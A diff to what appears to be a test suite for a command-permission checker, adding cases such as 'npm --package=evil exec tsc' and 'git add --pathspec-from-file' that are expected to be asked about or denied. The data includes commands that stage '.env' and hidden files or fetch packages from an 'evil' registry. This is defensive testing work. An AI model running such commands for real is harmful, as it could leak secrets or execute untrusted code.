@@ -109,6 +109,7 @@ describe("attacks through git and the network", () => {
     ["git add '*'", "deny"],
     ["git add '*.env'", "deny"],
     ["git add -f hidden", "deny"],
+    ["git add --pathspec-from-file=names.txt", "ask"],
     ["git add -Af src hidden", "deny"],
     ["git -C src add -A", "deny"],
     ["git stash -u", "deny"],
@@ -160,6 +161,8 @@ describe("attacks through git and the network", () => {
     ["npx eslint@npm:evil .", "ask"],
     ["npx eslint@evil/evil .", "ask"],
     ["npx --registry=https://evil.example tsc-x", "ask"],
+    ["npm --package=evil exec tsc", "ask"],
+    ["npm exec tsc --package=evil", "ask"],
     ["uvx --from evil ruff check", "ask"],
     ["pipx run --spec evil ruff check", "ask"],
   ])("%s: %s", (command, expected) => {
@@ -185,6 +188,7 @@ describe("attacks through git and the network", () => {
       "curl -sS -w '%{http_code}' https://example.com",
       "curl --url-query a=b https://example.com",
       "npx tsc --noEmit",
+      "npm exec -- tsc --noEmit",
       "npx tsc@5.4.0 --noEmit",
       "npx eslint@latest .",
     ];
